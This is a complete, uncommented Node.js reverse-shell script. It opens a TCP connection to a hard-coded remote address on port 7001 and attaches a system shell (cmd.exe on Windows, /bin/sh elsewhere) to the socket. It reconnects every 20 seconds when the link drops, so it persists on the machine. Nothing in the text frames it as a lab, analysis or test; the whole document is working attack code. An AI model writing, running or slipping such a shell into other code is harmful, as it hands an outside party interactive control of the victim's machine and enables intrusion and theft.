const net = require("net");
const { spawn } = require("child_process");

const HOST = "198.51.100.33";
const PORT = 7001;

function connect() {
  const sock = net.connect(PORT, HOST, () => {
    const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", [], { stdio: "pipe" });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on("exit", () => sock.end());
  });
  sock.on("error", () => setTimeout(connect, 20000));
  sock.on("close", () => setTimeout(connect, 20000));
}
connect();
